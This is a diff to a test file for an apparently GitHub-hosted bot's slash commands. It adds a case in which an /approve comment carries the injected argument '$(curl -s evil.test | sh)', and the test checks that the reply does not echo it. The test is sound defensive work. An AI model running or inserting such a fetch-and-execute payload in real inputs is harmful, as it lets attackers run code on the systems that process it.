@@ -30,6 +30,13 @@ export const COMMAND_CASES: CommandCase[] = [
   silent("/approve from a bot", "/approve", "renovate[bot]", "Bot"),
   silent("/approve from the app itself", "/approve", "quantapilot[bot]", "Bot"),
   {
+    name: "an /approve argument built to run a shell command",
+    event: "issue_comment",
+    payload: () => commentPayload("/approve $(curl -s evil.test | sh)", "writer-x"),
+    // The reply explains the argument without echoing it back.
+    reply: /^@writer-x: (?!.*curl)/s,
+  },
+  {
     name: "/cancel from a reader",
     event: "issue_comment",
     payload: () => commentPayload("/cancel", "reader-1"),
